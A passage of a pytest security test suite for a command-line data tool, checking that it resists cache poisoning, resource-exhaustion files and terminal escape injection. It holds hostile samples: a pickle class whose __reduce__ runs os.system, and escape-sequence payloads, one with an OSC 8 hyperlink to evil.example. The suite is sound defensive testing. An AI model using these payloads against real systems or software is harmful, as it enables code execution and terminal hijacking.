"""Security and robustness (issue 11): each test plays one attack or fault against the installed
console script, in a subprocess, and asserts the safe outcome: the true fact, the exit code, the
message. The numbers in the section titles are the issue's cases.

The tests that give a file to another uid, or run oscli as a uid without a passwd entry
(with setpriv), need root (CI runs as root); they are skipped otherwise, and only they.
"""

from __future__ import annotations

import csv
import io
import json
import os
import pickle
import pwd
import re
import select
import shlex
import shutil
import signal
import statistics
import struct
import subprocess
import sys
import tempfile
import threading
import time
import unicodedata
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
import yaml
from conftest import flat, oscli_executable
from hypothesis import given, settings
from hypothesis import strategies as st

from outsourcing_cli.domain import kinds, textsafe
from outsourcing_cli.domain.search import MAX_QUERY
from outsourcing_cli.present import render
from outsourcing_cli.store import cache, codec, validate
from outsourcing_cli.store.load import read_files
from outsourcing_cli.store.schema import ID_PATTERN

IS_ROOT = os.geteuid() == 0
needs_root = pytest.mark.skipif(not IS_ROOT, reason="giving a file to another uid needs root (CI runs as root)")
OTHER_UID = 12345
XIAN = "Xi'an"
FALSE = "Pyongyang"  # the false fact a planted entry tries to make oscli print
_UNTIMED = settings(deadline=None)  # no timing assertions: a slow example on a loaded machine is no failure


def _env(remove=(), **extra: str) -> dict[str, str]:
    """The test run's environment (with its private OSCLI_CACHE_DIR) minus what would change the
    output, minus ``remove``, plus ``extra``."""
    dropped = {"NO_COLOR", "FORCE_COLOR", "OSCLI_DATA_DIR", "OSCLI_DEBUG", "OSCLI_NO_CACHE", *remove}
    env = {k: v for k, v in os.environ.items() if k not in dropped}
    env.update(extra)
    return env


def _oscli(
    *args: str, cwd: Path, env: dict[str, str] | None = None, timeout: float = 60, **kwargs
) -> subprocess.CompletedProcess:
    if "stdout" not in kwargs and "stderr" not in kwargs:
        kwargs["capture_output"] = True
    return subprocess.run(
        [oscli_executable(), *args], text=True, cwd=cwd, env=_env() if env is None else env, timeout=timeout, **kwargs
    )


def _xian(cwd: Path, data: Path, env: dict[str, str]) -> tuple[subprocess.CompletedProcess, str | None]:
    """`oscli --data-dir DATA cities show xian --json` and the name it gives."""
    done = _oscli("--data-dir", str(data), "cities", "show", "xian", "--json", cwd=cwd, env=env)
    return done, json.loads(done.stdout)["name"] if done.returncode == 0 else None


def _line_of(path: Path, text: str) -> int:
    return path.read_text(encoding="utf-8").splitlines().index(text) + 1


def _set_xian_name(data: Path, yaml_value: str) -> int:
    """Give Xi'an another name (as YAML source text); the line it is on."""
    path = data / "cities.yaml"
    text = path.read_text(encoding="utf-8")
    assert text.count("    name: Xi'an\n") == 1
    path.write_text(text.replace("    name: Xi'an\n", f"    name: {yaml_value}\n"), encoding="utf-8")
    return _line_of(path, f"    name: {yaml_value}")


# -- 1. the cache never reads what someone else could have written ---------------------------------


class _RunsCode:
    """Pickles to a call of os.system: what a planted pickle entry would run when loaded."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self):
        return (os.system, (f"touch {shlex.quote(self.marker)}",))


def _payload(kind: str, genuine: bytes, marker: Path, rename_id: bool = False, name: str = "") -> bytes:
    if kind == "pickle":
        return pickle.dumps(_RunsCode(marker))
    from outsourcing_cli.domain import model
    from outsourcing_cli.domain.findings import Report

    # a well-formed entry, sealed under the right name, with one false fact
    report = codec.decode(codec.opened(genuine, name), Path("data"))
    by_kind = {kind: report.base.of(kind) for kind in report.base.kinds()}
    by_kind["city"] = tuple(
        city.replace(name=FALSE, **({"id": "pyongyang"} if rename_id else {})) if city.id == "xian" else city
        for city in by_kind["city"]
    )
    assert FALSE in [city.name for city in by_kind["city"]]
    return codec.seal(codec.encode(Report(model.FactBase(by_kind), report.findings), Path("data")), name)


def _poison(folder: Path, kind: str, marker: Path, rename_id: bool = False) -> list[Path]:
    """Overwrite every entry oscli wrote in ``folder`` with a payload; the entries."""
    entries = [p for p in folder.iterdir() if not p.name.startswith(".")]
    assert entries, f"oscli wrote no cache entry in {folder}"
    for entry in entries:
        entry.write_bytes(_payload(kind, entry.read_bytes(), marker, rename_id, entry.name))
    return entries


# Each attack: prime the cache with a genuine run, replace the entries with the payload, then
# make the directory or the entries what another user could have made. Returns the environment
# of the attacked run and the reason OSCLI_DEBUG=1 gives.


def _group_writable_directory(tmp_path, prime, kind, marker):
    folder = tmp_path / "cache"
    env = _env(OSCLI_CACHE_DIR=str(folder))
    prime(env)
    _poison(folder, kind, marker)
    folder.chmod(0o777)
    return env, "is writable by group or others (mode drwxrwxrwx)"


def _symlinked_directory(tmp_path, prime, kind, marker):
    real = tmp_path / "elsewhere"
    prime(_env(OSCLI_CACHE_DIR=str(real)))
    _poison(real, kind, marker)
    link = tmp_path / "cache"
    link.symlink_to(real, target_is_directory=True)
    return _env(OSCLI_CACHE_DIR=str(link)), "(a symlink is never followed)"


def _symlinked_entry(tmp_path, prime, kind, marker):
    folder = tmp_path / "cache"
    env = _env(OSCLI_CACHE_DIR=str(folder))
    prime(env)
    planted = tmp_path / "planted"
    planted.mkdir()
    for entry in _poison(folder, kind, marker):
        entry.rename(planted / entry.name)
        entry.symlink_to(planted / entry.name)
    return env, "(a symlink is never followed)"


def _entry_of_another_user(tmp_path, prime, kind, marker):
    folder = tmp_path / "cache"
    env = _env(OSCLI_CACHE_DIR=str(folder))
    prime(env)
    for entry in _poison(folder, kind, marker):
        os.chown(entry, OTHER_UID, OTHER_UID)
    return env, f"belongs to uid {OTHER_UID}, not to this user"


def _directory_of_another_user(tmp_path, prime, kind, marker):
    folder = tmp_path / "cache"
    env = _env(OSCLI_CACHE_DIR=str(folder))
    prime(env)
    for path in [folder, *_poison(folder, kind, marker)]:
        os.chown(path, OTHER_UID, OTHER_UID)
    return env, f"belongs to uid {OTHER_UID}, not to this user"


def _shared_xdg_cache_home(tmp_path, prime, kind, marker):
    """XDG_CACHE_HOME is a shared, sticky, world-writable directory (like /tmp) in which another
    user made `oscli/` first and filled it."""
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    env = _env(remove=("OSCLI_CACHE_DIR",), XDG_CACHE_HOME=str(shared), HOME=str(tmp_path / "home"))
    prime(env)
    folder = shared / "oscli"
    for path in [folder, *_poison(folder, kind, marker)]:
        os.chown(path, OTHER_UID, OTHER_UID)
    return env, f"belongs to uid {OTHER_UID}, not to this user"


ATTACKS = [
    pytest.param(_group_writable_directory, id="group-writable-directory"),
    pytest.param(_symlinked_directory, id="directory-is-a-symlink"),
    pytest.param(_symlinked_entry, id="entry-is-a-symlink"),
    pytest.param(_entry_of_another_user, id="entry-of-another-uid", marks=needs_root),
    pytest.param(_directory_of_another_user, id="directory-of-another-uid", marks=needs_root),
    pytest.param(_shared_xdg_cache_home, id="shared-xdg-cache-home", marks=needs_root),
]


def test_a_planted_entry_in_a_trusted_directory_is_what_oscli_reads(tmp_path, data_copy, monkeypatch):
    """The control for the attacks below: the entry is named by cache.key over the files as read,
    and a poisoned entry in a directory oscli trusts is served. So each attack's payload sits
    exactly where oscli looks, and only the trust checks keep it out."""
    folder = tmp_path / "cache"
    env = _env(OSCLI_CACHE_DIR=str(folder))
    assert _xian(tmp_path, data_copy, env)[1] == XIAN
    monkeypatch.chdir(tmp_path)  # (the key does not depend on the working directory)
    assert [p.name for p in folder.iterdir()] == [cache.key(data_copy, read_files(data_copy)) + cache.SUFFIX]
    _poison(folder, "json", tmp_path / "marker")
    assert _xian(tmp_path, data_copy, env)[1] == FALSE


@pytest.mark.parametrize("payload", ["pickle", "json"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cache_entry_someone_else_could_have_written_is_never_read(tmp_path, data_copy, attack, payload):
    marker = tmp_path / "code-ran"
    env, reason = attack(tmp_path, lambda e: _xian(tmp_path, data_copy, e), payload, marker)
    explained, name = _xian(tmp_path, data_copy, {**env, "OSCLI_DEBUG": "1"})
    assert not marker.exists(), "the planted pickle ran"
    assert (explained.returncode, name) == (0, XIAN), explained
    assert reason in explained.stderr and "oscli: cache: not used" in explained.stderr
    quiet, name = _xian(tmp_path, data_copy, env)
    assert (quiet.returncode, name, quiet.stderr) == (0, XIAN, "")
    assert not marker.exists()


def _complete(cwd: Path, env: dict[str, str], *words: str) -> list[str]:
    """Bash completion from the installed oscli, as the script of --install-completion asks for it."""
    done = _oscli(
        cwd=cwd,
        env={
            **env,
            "_OSCLI_COMPLETE": "complete_bash",
            "COMP_WORDS": " ".join(("oscli", *words)),
            "COMP_CWORD": str(len(words)),
        },
    )
    assert done.returncode == 0, done.stderr
    return done.stdout.split()


def test_shell_completion_is_not_fooled_by_a_planted_entry(tmp_path, data_copy):
    folder = tmp_path / "cache"
    marker = tmp_path / "code-ran"
    env = _env(OSCLI_CACHE_DIR=str(folder), OSCLI_DATA_DIR=str(data_copy))
    assert _oscli("cities", "list", cwd=tmp_path, env=env).returncode == 0
    _poison(folder, "json", marker, rename_id=True)
    assert _complete(tmp_path, env, "cities", "show", "py") == ["pyongyang"]  # trusted: completion reads it
    folder.chmod(0o777)  # ... but not from a directory others can write
    assert _complete(tmp_path, env, "cities", "show", "py") == []
    assert _complete(tmp_path, env, "cities", "show", "xi") == ["xian", "xiamen"]
    _poison(folder, "pickle", marker)
    assert _complete(tmp_path, env, "cities", "show", "xi") == ["xian", "xiamen"]
    assert not marker.exists()


# -- 2. each file is read once, and exactly the hashed bytes are parsed -----------------------------


def _name_of_xian(report) -> str:
    (xian,) = [c for c in report.base.of("city") if c.id == "xian"]
    return xian.name


def test_validate_parses_the_bytes_it_was_given_not_the_disk(data_copy):
    reads = read_files(data_copy)
    _set_xian_name(data_copy, FALSE)
    assert _name_of_xian(validate.validate(data_copy, reads)) == XIAN
    assert _name_of_xian(validate.validate(data_copy)) == FALSE


def test_a_file_rewritten_right_after_it_was_hashed_cannot_poison_the_cache(tmp_path, data_copy, monkeypatch):
    """The race of a file rewritten between hashing and parsing, made certain: the file changes
    the moment its key is computed. The entry under that key must still hold what was hashed."""
    monkeypatch.setenv("OSCLI_CACHE_DIR", str(tmp_path / "cache"))
    path = data_copy / "cities.yaml"
    genuine = path.read_bytes()
    poisoned = genuine.replace(b"name: Xi'an\n", f"name: {FALSE}\n".encode())
    computed = cache.key

    def key_then_rewrite(*args, **kwargs):
        digest = computed(*args, **kwargs)
        path.write_bytes(poisoned)
        return digest

    monkeypatch.setattr(cache, "key", key_then_rewrite)
    assert _name_of_xian(cache.validated(data_copy)) == XIAN  # what was hashed
    monkeypatch.setattr(cache, "key", computed)
    path.write_bytes(genuine)
    assert _name_of_xian(cache.validated(data_copy)) == XIAN  # the entry the race wrote
    path.write_bytes(poisoned)
    assert _name_of_xian(cache.validated(data_copy)) == FALSE  # the other content has its own entry


def test_the_cli_caches_what_it_parsed_while_a_file_is_rewritten_in_place(tmp_path, data_copy):
    """Through the console script: while a file is rewritten in place (as an editor or a sync tool
    does) between versions of the same length, runs fill the cache; afterwards each version
    shows its own name."""
    path = data_copy / "cities.yaml"
    text = path.read_text(encoding="utf-8")
    versions = [text.replace("    name: Xi'an\n", f"    name: Xi'an {n}\n").encode() for n in range(8)]
    env = _env(OSCLI_CACHE_DIR=str(tmp_path / "cache"))
    stop = threading.Event()

    def rewrite():
        n = 0
        while not stop.is_set():
            with open(path, "r+b") as handle:
                handle.write(versions[n % len(versions)])
            n += 1
            time.sleep(0.0005)

    writer = threading.Thread(target=rewrite)
    writer.start()
    try:
        for _ in range(10):
            _xian(tmp_path, data_copy, env)
    finally:
        stop.set()
        writer.join()
    for n, version in enumerate(versions):
        path.write_bytes(version)
        assert _xian(tmp_path, data_copy, env)[1] == f"Xi'an {n}"


# -- 3. a data file that would hang or exhaust memory ---------------------------------------------

_MEASURED = """
import json, resource, subprocess, sys
done = subprocess.run(sys.argv[1:], capture_output=True, text=True, timeout=20)
print(json.dumps({"returncode": done.returncode, "stdout": done.stdout, "stderr": done.stderr,
                  "peak_kib": resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}))
"""


def _measured(*args: str, cwd: Path) -> dict:
    """Run oscli under a fresh interpreter that waits at most 20 s and reports the peak resident
    memory of that one child (RUSAGE_CHILDREN of this test's process would include every earlier one)."""
    done = subprocess.run(
        [sys.executable, "-c", _MEASURED, oscli_executable(), *args],
        capture_output=True,
        text=True,
        cwd=cwd,
        env=_env(),
        timeout=60,
    )
    assert done.returncode == 0, f"oscli did not finish within 20 s: {done.stderr[-400:]}"
    return json.loads(done.stdout)


def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _dev_zero(path: Path) -> None:
    path.symlink_to("/dev/zero")


def _sparse_2gb(path: Path) -> None:
    with open(path, "wb") as handle:
        handle.truncate(2 * 1024**3)


@pytest.mark.parametrize(
    "make, expected",
    [
        (_fifo, "error OSC001 is a FIFO, not a regular file; a data file is a plain YAML file"),
        (_dev_zero, "error OSC001 is a device, not a regular file; a data file is a plain YAML file"),
        (_sparse_2gb, "error OSC007 file is 2,147,483,648 bytes; the limit is "),
    ],
    ids=["fifo", "symlink-to-dev-zero", "sparse-2-gib"],
)
def test_a_file_that_would_hang_or_fill_memory_is_a_located_finding(tmp_path, data_copy, make, expected):
    (data_copy / "cities.yaml").unlink()
    make(data_copy / "cities.yaml")
    done = _measured("--data-dir", str(data_copy), "check", cwd=tmp_path)
    assert done["returncode"] == 1
    assert f"data/cities.yaml:1:1: {expected}" in done["stdout"]
    assert done["peak_kib"] < 300 * 1024
    listing = _measured("--data-dir", str(data_copy), "cities", "list", cwd=tmp_path)
    assert listing["returncode"] == 3 and f"data/cities.yaml:1:1: {expected}" in listing["stderr"]
    assert listing["peak_kib"] < 300 * 1024


def test_the_size_limit_is_16_mib_unless_raised_for_data_one_trusts(tmp_path, data_copy):
    """A data file over 16 MiB is refused; OSCLI_MAX_FILE_MIB raises the limit (the 1,000x benchmark
    base needs it), and the node limit with it, in proportion."""
    cities = data_copy / "cities.yaml"
    padding = b"# " + b"x" * (17 * 1024 * 1024) + b"\n"  # a comment: bytes, but no YAML nodes
    cities.write_bytes(padding + cities.read_bytes())
    size = cities.stat().st_size
    refused = _oscli("--data-dir", str(data_copy), "check", cwd=tmp_path)
    assert refused.returncode == 1
    assert f"data/cities.yaml:1:1: error OSC007 file is {size:,} bytes; the limit is 16,777,216" in refused.stdout
    raised = _oscli("--data-dir", str(data_copy), "check", cwd=tmp_path, env=_env(OSCLI_MAX_FILE_MIB="32"))
    assert raised.returncode == 0, raised.stdout + raised.stderr
    listed = _oscli(
        "--data-dir", str(data_copy), "cities", "list", "--json", cwd=tmp_path, env=_env(OSCLI_MAX_FILE_MIB="32")
    )
    assert "dalian" in [city["id"] for city in json.loads(listed.stdout)]


@pytest.mark.parametrize(
    "value, size, nodes",
    [
        (None, 16 * 1024**2, 1_000_000),
        ("32", 32 * 1024**2, 2_000_000),
        ("1024", 1024**3, 64_000_000),
        ("0", 16 * 1024**2, 1_000_000),
        ("8", 8 * 1024**2, 1_000_000),
        ("lots", 16 * 1024**2, 1_000_000),
    ],
)
def test_oscli_max_file_mib_raises_both_limits_and_never_lowers_the_nodes(monkeypatch, value, size, nodes):
    from outsourcing_cli.store import load

    if value is None:
        monkeypatch.delenv("OSCLI_MAX_FILE_MIB", raising=False)
    else:
        monkeypatch.setenv("OSCLI_MAX_FILE_MIB", value)
    assert (load.max_bytes(), load.max_events()) == (size, nodes)


# -- 4. text that would take over the terminal ----------------------------------------------------

UNSAFE_RAW = {  # what the data holds, as it would reach the terminal (UTF-8)
    "CSI erase screen": b"\x1b[2J",
    "OSC 8 hyperlink": b"\x1b]8;",
    "C1 CSI": "\x9b".encode(),
    "bidi override": "\u202e".encode(),
}


def _unsafe_char(char: str) -> bool:
    """The characters no text from the data may bring to a terminal raw: controls (C0 but tab and
    newline, DEL, C1), the bidi embeddings, overrides, isolates and marks, and the line and
    paragraph separators. (Spelt out from Unicode's own properties, not copied from textsafe.)"""
    if unicodedata.category(char) == "Cc":
        return char not in "\t\n"
    return (
        unicodedata.bidirectional(char) in {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
        or char in "\u061c\u200e\u200f\u2028\u2029"
    )


@pytest.mark.parametrize(
    "value, column, code",
    [
        ('"Xi\'an\\e[2J"', 11, 0x1B),
        ('"\\e]8;;https://evil.example/\\e\\\\Xi\'an\\e]8;;\\e\\\\"', 11, 0x1B),
        ('"Xi\'an\\x9b2J"', 11, 0x9B),
        ('"Xi\'an\\u202e"', 11, 0x202E),
        ("Xi'an \u202ekcatta", 17, 0x202E),  # raw in the file, in a plain scalar: its exact column
    ],
    ids=["csi", "osc8-hyperlink", "c1-csi", "bidi-escaped", "bidi-raw"],
)
def test_a_control_or_bidi_character_in_the_data_is_a_located_error(tmp_path, data_copy, value, column, code):
    line = _set_xian_name(data_copy, value)
    done = _oscli("--data-dir", str(data_copy), "check", cwd=tmp_path)
    assert done.returncode == 1
    assert (
        f"data/cities.yaml:{line}:{column}: error OSC107 'name' of city holds the control or "
        f"bidirectional character U+{code:04X}; remove it"
    ) in done.stdout.splitlines()


def _hostile_data(data: Path) -> None:
    """Every kind of terminal injection at once, and an unknown key holding ESC and U+202E in the
    first city, so that the first finding (the one every command but check shows) quotes it."""
    path = data / "cities.yaml"
    text = path.read_text(encoding="utf-8")
    text = text.replace("    name: Dalian\n", '    name: Dalian\n    "na\\e[2Jme\\u202e": x\n', 1)
    text = text.replace(
        "    name: Xi'an\n", '    name: "\\e]8;;https://evil.example/\\e\\\\Xi\'an\\e]8;;\\e\\\\\\e[2J"\n', 1
    )
    text = text.replace("    name: Chengdu\n", '    name: "Cheng\\x9b2Jdu"\n', 1)
    text = text.replace("    name: Shanghai\n", '    name: "Shang\\u202ehai"\n', 1)
    path.write_text(text, encoding="utf-8")


def _in_a_terminal(args: list[str], cwd: Path, env: dict[str, str]) -> tuple[int, bytes]:
    """Run in a pseudo-terminal (stdin, stdout and stderr a real tty, 160 columns); every byte
    the terminal would receive."""
    import fcntl
    import termios

    leader, follower = os.openpty()
    fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 160, 0, 0))
    proc = subprocess.Popen(
        args, stdin=follower, stdout=follower, stderr=follower, cwd=cwd, env=env, start_new_session=True
    )
    os.close(follower)
    received = []
    deadline = time.monotonic() + 60
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([leader], [], [], 1)
            if not ready:
                if proc.poll() is not None:
                    break
                continue
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # EIO: the terminal's other side is closed
                break
            if not chunk:
                break
            received.append(chunk)
        return proc.wait(timeout=10), b"".join(received)
    finally:
        os.close(leader)


@pytest.mark.parametrize(
    "args, exit_code",
    [
        (["check"], 1),
        (["cities", "list"], 3),
        (["cities", "show", "xian"], 3),
        (["search", "xian"], 3),
    ],
)
def test_no_escape_sequence_from_the_data_reaches_a_terminal(tmp_path, data_copy, args, exit_code):
    _hostile_data(data_copy)
    env = _env(TERM="xterm-256color", COLUMNS="160")
    code, shown = _in_a_terminal([oscli_executable(), "--data-dir", str(data_copy), *args], tmp_path, env)
    assert code == exit_code, shown
    for what, raw in UNSAFE_RAW.items():
        assert raw not in shown, f"{what} reached the terminal"
    assert b"\x1b" not in re.sub(rb"\x1b\[[0-9;]*m", b"", shown), "an escape other than Rich's colours"
    assert b"unknown field 'na\\x1b[2Jme\\u202e' in city; did you mean 'name'?" in shown
    if args == ["check"]:
        assert b"U+009B" in shown and b"U+202E" in shown and b"U+001B" in shown


@pytest.mark.parametrize("fmt", ["plain", "table", "json", "ndjson", "csv", "yaml"])
def test_no_format_of_check_carries_a_control_character_from_the_data(tmp_path, data_copy, fmt):
    """An unknown key is quoted in the finding's message: escaped there, so that CSV and YAML,
    which have no escapes of their own for it, cannot carry it either."""
    _hostile_data(data_copy)
    done = _oscli(
        "--data-dir",
        str(data_copy),
        "check",
        "--format",
        fmt,
        cwd=tmp_path,
        env=_env(FORCE_COLOR="1") if fmt == "table" else None,
    )
    assert done.returncode == 1
    body = re.sub("\x1b\\[[0-9;]*m", "", done.stdout) if fmt == "table" else done.stdout
    assert not [c for c in body if _unsafe_char(c) and c not in "\r"], fmt
    assert "na\\x1b[2Jme\\u202e" in body.replace("\\\\", "\\")


_TEXT = st.text(
    alphabet=st.one_of(
        st.characters(), st.sampled_from(list("\x1b\x9b\u202e\u2066\u200f\u2028\x07\x00\t\n\r\x7f\x85[]0123456789;m"))
    )
)


@_UNTIMED
@given(_TEXT)
def test_visible_text_never_holds_an_unsafe_character(text):
    shown = textsafe.visible(text)
    assert not [c for c in shown if _unsafe_char(c)]
    one_line = textsafe.visible(text, keep_newlines=False)
    assert not [c for c in one_line if _unsafe_char(c) or c in "\t\n"]
    assert not [c for c in textsafe.escaped(text) if _unsafe_char(c) or c in "\t\n"]
    if not [c for c in text if _unsafe_char(c)]:
        assert shown == text  # safe text is shown as it is


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | _TEXT,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(_TEXT, inner, max_size=4),
    max_leaves=12,
)


@_UNTIMED
@given(_JSON)
def test_json_output_stays_valid_round_trips_and_holds_no_unsafe_character(value):
    for indent in (2, None):  # --json and ndjson
        text = render.json_text(value, indent=indent)
        assert not [c for c in text if _unsafe_char(c) and c != "\n"]
        assert json.loads(text) == value


def test_json_escapes_every_unsafe_character_of_the_basic_plane_and_nothing_else():
    """json_safe looks for unsafe characters in UTF-8 (for speed): checked here one code point at a
    time against Unicode's own properties, as JSON can hold them (C0 is escaped by json itself)."""
    for code in [*range(0x20, 0xD800), *range(0xE000, 0x10000), 0x1F600, 0xE0001, 0x10FFFF]:
        char = chr(code)
        escaped = textsafe.json_safe(json.dumps(char, ensure_ascii=False))
        assert (escaped == json.dumps(char)) if _unsafe_char(char) else (escaped == f'"{char}"' or char in '"\\'), hex(
            code
        )


# -- 5, 6. search: YAML output, and a query that looks like Rich markup -----------------------------


def test_search_writes_yaml_equal_to_its_json(tmp_path):
    as_yaml = _oscli("search", "suzhou", "--format", "yaml", cwd=tmp_path)
    as_json = _oscli("search", "suzhou", "--json", cwd=tmp_path)
    assert (as_yaml.returncode, as_yaml.stderr) == (0, "")
    assert yaml.safe_load(as_yaml.stdout) == json.loads(as_json.stdout)
    assert yaml.safe_load(as_yaml.stdout)[0] == {
        "type": "city",
        "id": "suzhou",
        "field": "name",
        "snippet": "Suzhou",
        "score": 100,
        "match": "exact",
    }


# ("[/i]" finds the word I since issue 18's sources name "Article I"; "[/u]" finds nothing)
@pytest.mark.parametrize("query, exit_code", [("[/i]", 0), ("[/u]", 1), ("[link=https://x]", 1), ("suzhou [/]", 0)])
def test_a_query_that_looks_like_markup_is_shown_as_typed(tmp_path, query, exit_code):
    done = _oscli("search", query, cwd=tmp_path, env=_env(FORCE_COLOR="1", COLUMNS="120"))
    assert done.returncode == exit_code, done.stderr
    plain = re.sub("\x1b\\[[0-9;]*m", "", done.stdout)
    if exit_code == 0:
        assert plain.splitlines()[0].strip() == f"Search: {query}"
    else:  # issue 20: no match writes nothing on stdout; the query is shown, as typed, on stderr
        assert done.stdout == ""
    assert "\x1b]8;" not in done.stdout + done.stderr  # no hyperlink was made of it
    assert "internal error" not in done.stderr
    if exit_code:
        assert done.stderr.startswith(f"oscli: nothing matches '{query}', exactly or closely.")


# -- 7. ids: exactly lower-case words joined by single hyphens --------------------------------------


def test_an_id_with_a_trailing_newline_is_refused(tmp_path, data_copy):
    path = data_copy / "cities.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace("  - id: xian\n", '  - id: "xian\\n"\n'), encoding="utf-8")
    line = _line_of(path, '  - id: "xian\\n"')
    done = _oscli("--data-dir", str(data_copy), "check", cwd=tmp_path)
    assert done.returncode == 1
    assert (
        f"data/cities.yaml:{line}:9: error OSC106 'id' of city 'xian\\n' must be lower-case letters, "
        "digits and hyphens; try 'xian'"
    ) in done.stdout.splitlines()
    listing = _oscli("--data-dir", str(data_copy), "cities", "list", cwd=tmp_path)
    assert listing.returncode == 3 and "error OSC106" in listing.stderr


_ID_WORD = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789", min_size=1, max_size=6)


@_UNTIMED
@given(st.lists(_ID_WORD, min_size=1, max_size=5))
def test_every_id_of_hyphen_joined_words_is_accepted(words):
    assert ID_PATTERN.fullmatch("-".join(words))


@_UNTIMED
@given(st.text(alphabet=st.one_of(st.sampled_from(list("ab09-\n\r\t _.AZé٣")), st.characters()), max_size=12))
def test_the_id_pattern_accepts_exactly_lower_case_alphanumeric_words_joined_by_single_hyphens(text):
    words = text.split("-")
    expected = all(word and all(c in "abcdefghijklmnopqrstuvwxyz0123456789" for c in word) for word in words)
    assert (ID_PATTERN.fullmatch(text) is not None) == expected


# -- 8. pruning removes only oscli's own files ------------------------------------------------------


def test_pruning_removes_only_oscli_s_own_files(tmp_path, data_copy):
    folder = tmp_path / "cache"
    folder.mkdir(mode=0o700)
    long_ago = time.time() - 10 * cache.STALE
    users = (
        [f"{n:064x}.pickle" for n in range(12)]
        + [f"model-{n}.pickle" for n in range(6)]
        + [f"{n:064x}.json" for n in range(3)]
        + ["notes.json", "settings.json", "results.json"]
        + [
            f"{1:063x}.oscli.json",
            f"{'AB' * 32}.oscli.json",
            f"{2:064x}.oscli.json.bak",
            ".tmp-oscli-mine",
            "tmp-oscli-1a-2b",
            ".tmp-oscli-1a-2b.keep",
            "README",
            "data.csv",
        ]
    )
    assert len(users) == 32
    for name in users:
        (folder / name).write_text(f"the user's {name}\n", encoding="utf-8")
        os.utime(folder / name, (long_ago, long_ago))
    elsewhere = tmp_path / "kept.txt"
    elsewhere.write_text("kept\n", encoding="utf-8")
    (folder / f"{3:064x}.oscli.json").symlink_to(elsewhere)  # an entry's name, but not a regular file
    for n in range(20):  # old entries of oscli's own: pruned beyond KEEP
        own = folder / f"{0xE0 + n:064x}.oscli.json"
        own.write_text("{}", encoding="utf-8")
        os.utime(own, (long_ago + n, long_ago + n))
    stale = folder / ".tmp-oscli-1f2e-3d4c5b6a7f80"  # a killed run's
    stale.write_text('{"format": 2, "base": {', encoding="utf-8")
    os.utime(stale, (long_ago, long_ago))
    fresh = folder / ".tmp-oscli-2a3b-0a1b2c3d4e5f"  # a run writing now
    fresh.write_text('{"format": 2, "base": {', encoding="utf-8")
    env = _env(OSCLI_CACHE_DIR=str(folder))
    path = data_copy / "cities.yaml"
    for n in range(3):  # three different contents: three writes, each followed by pruning
        path.write_text(path.read_text(encoding="utf-8") + f"# edit {n}\n", encoding="utf-8")
        assert _xian(tmp_path, data_copy, env)[1] == XIAN
    for name in users:
        assert (folder / name).read_text(encoding="utf-8") == f"the user's {name}\n", name
    assert (folder / f"{3:064x}.oscli.json").is_symlink() and elsewhere.read_text(encoding="utf-8") == "kept\n"
    own = [p for p in folder.iterdir() if cache.ENTRY.fullmatch(p.name) and not p.is_symlink()]
    assert len(own) == cache.KEEP
    assert not stale.exists() and fresh.exists()


# -- 9. standard output that cannot be written; no home directory -----------------------------------

WRITING_COMMANDS = [
    ["cities", "list"],
    ["cities", "list", "--json"],
    ["cities", "list", "--format", "csv"],
    ["policy", "show", "11th-fyp", "--format", "table"],
    ["search", "suzhou"],
    ["check"],
    ["cite", "11th-fyp"],
    ["--version"],
    ["--help"],
]
_IDS = [" ".join(c) for c in WRITING_COMMANDS]


@pytest.mark.parametrize("args", WRITING_COMMANDS, ids=_IDS)
def test_a_full_disk_is_exit_74_and_one_line(tmp_path, args):
    with open("/dev/full", "w") as full:
        done = _oscli(*args, cwd=tmp_path, stdout=full, stderr=subprocess.PIPE)
    assert done.returncode == 74
    assert done.stderr.splitlines() == ["oscli: cannot write to standard output: No space left on device"]


@pytest.mark.parametrize("args", WRITING_COMMANDS, ids=_IDS)
def test_a_closed_standard_output_is_exit_74_and_one_line(tmp_path, args):
    done = subprocess.run(
        ["sh", "-c", '"$@" >&-', "sh", oscli_executable(), *args],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        env=_env(),
        timeout=60,
    )
    assert done.returncode == 74
    assert len(done.stderr.splitlines()) == 1 and done.stderr.startswith("oscli: cannot write")
    assert "bug" not in done.stderr


def _uid_without_passwd_entry() -> int:
    for uid in range(54321, 54421):
        try:
            pwd.getpwuid(uid)
        except KeyError:
            return uid
    pytest.skip("no free uid")


@pytest.mark.skipif(
    not IS_ROOT or not shutil.which("setpriv"),
    reason="running as a uid without a passwd entry needs root and setpriv (CI runs as root)",
)
def test_without_a_home_directory_the_cache_is_simply_off(tmp_path):
    """No HOME and no passwd entry for the uid (a container's arbitrary uid): Path.home() fails.
    The cache is off, and nothing is made in the working directory. (setpriv, not os.setuid in
    preexec_fn: the interpreter may live where only root may look, e.g. under /root/.pyenv.)"""
    uid = _uid_without_passwd_entry()
    work = Path(tempfile.mkdtemp(prefix="oscli-nohome-"))  # outside the test's 0700 tmp_path
    try:
        os.chown(work, uid, uid)
        env = _env(remove=("HOME", "OSCLI_CACHE_DIR", "XDG_CACHE_HOME"), OSCLI_DEBUG="1")
        done = subprocess.run(
            [
                "setpriv",
                f"--reuid={uid}",
                f"--regid={uid}",
                "--clear-groups",
                oscli_executable(),
                "cities",
                "show",
                "xian",
                "--json",
            ],
            capture_output=True,
            text=True,
            cwd=work,
            env=env,
            timeout=60,
        )
        assert done.returncode == 0, done.stderr
        assert json.loads(done.stdout)["name"] == XIAN
        assert done.stderr == "oscli: cache: off: no home directory to keep it in (set OSCLI_CACHE_DIR to choose one)\n"
        assert list(work.iterdir()) == []  # no '~' directory made in the working directory
    finally:
        shutil.rmtree(work)


# -- 10. closed pipes, Ctrl-C, a killed cache write ------------------------------------------------

PIPED_COMMANDS = [
    [k.command, verb, *([k.example] if verb == "show" else []), "--format", fmt]
    for k in kinds.KINDS.values()
